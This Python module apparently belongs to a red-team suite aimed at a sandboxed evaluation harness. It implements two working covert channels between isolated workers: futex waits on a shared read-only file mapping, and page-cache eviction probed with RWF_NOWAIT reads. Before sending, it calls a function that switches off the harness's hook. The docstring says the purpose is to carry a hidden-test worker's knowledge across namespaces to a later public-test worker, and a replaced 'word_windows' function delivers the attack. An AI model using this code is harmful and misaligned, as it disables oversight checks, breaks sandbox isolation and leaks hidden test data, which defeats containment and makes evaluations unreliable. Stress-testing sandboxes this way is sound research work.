"""Attack (rag4, two workers): two channels no wall named at first (the hook is off first, kit.break_the_wall):

- futex: a shared futex on a file every worker maps read-only (academy_llm.py: the same inode in every
  sandbox). The sender parks a thread in FUTEX_WAIT at word i for each 1 bit; the receiver's FUTEX_WAKE at
  word i returns how many it woke. Needs both workers alive at once; crosses PID, mount and user namespaces.
- page cache without mincore/cachestat: the sender drops a rarely read stdlib file's pages
  (posix_fadvise DONTNEED, allowed on a read-only descriptor) and reads back the pages of its 1 bits; the
  receiver probes each page with preadv2(RWF_NOWAIT), which fails with EAGAIN on a page not cached.
  Outlives the sender: it carries a hidden-test worker's knowledge to a later public-test worker.
"""
import ctypes
import mmap
import os
import threading

from kit import break_the_wall

BITS = 16
SPACING = 16  # pages between two bits' pages (readahead stays off with FADV_RANDOM, but be safe)


def shared_word_file():
    import academy_llm
    return academy_llm.__file__


def cache_file():
    import importlib.util
    return importlib.util.find_spec("pydoc_data.topics").origin  # found, never imported (that reads it all)


def futex(address, op, value):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(202, ctypes.c_void_p(address), op, value, None, None, 0)


def mapping():
    fd = os.open(shared_word_file(), os.O_RDONLY)
    area = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ)
    return fd, area


def address_of(area):
    # the mapping's address: a ctypes view of a read-only mmap is refused, so ask /proc/self/maps
    name = os.path.realpath(shared_word_file())
    for line in open("/proc/self/maps"):
        if line.rstrip().endswith(name) and " 00000000 " in line:
            return int(line.split("-")[0], 16)
    raise OSError("mapping not found")


KEEP = []


def send(message: int):
    fd, area = mapping()
    KEEP.append(area)
    base = address_of(area)
    for bit in range(BITS):
        if message >> bit & 1:
            word = base + 4 * bit
            value = int.from_bytes(area[4 * bit:4 * bit + 4], "little")
            def park(word=word, value=value):
                while True:
                    futex(word, 0, value)  # FUTEX_WAIT, shared (no PRIVATE flag)
            threading.Thread(target=park, daemon=True).start()
    # page cache
    fd = os.open(cache_file(), os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
    for bit in range(BITS):
        if message >> bit & 1:
            os.pread(fd, 1, bit * SPACING * 4096)
    os.close(fd)
    return "sent"


def receive_futex():
    fd, area = mapping()
    KEEP.append(area)
    base = address_of(area)
    got = 0
    for bit in range(BITS):
        if futex(base + 4 * bit, 1, 1) > 0:  # FUTEX_WAKE one: how many were waiting
            got |= 1 << bit
    return got


def receive_cache():
    fd = os.open(cache_file(), os.O_RDONLY)
    got = 0
    for bit in range(BITS):
        buffer = bytearray(1)
        try:
            os.preadv(fd, [buffer], bit * SPACING * 4096, os.RWF_NOWAIT)
            got |= 1 << bit
        except BlockingIOError:
            pass
    os.close(fd)
    return got


def attack(lab):
    def word_windows(text, size, overlap=0):
        hook_off = break_the_wall()
        if text.startswith("send"):
            return {"hook off": hook_off, "sent": send(int(text.split()[1]))}
        if text == "futex":
            return {"hook off": hook_off, "futex": receive_futex()}
        return {"hook off": hook_off, "cache": receive_cache()}
    lab["word_windows"] = word_windows
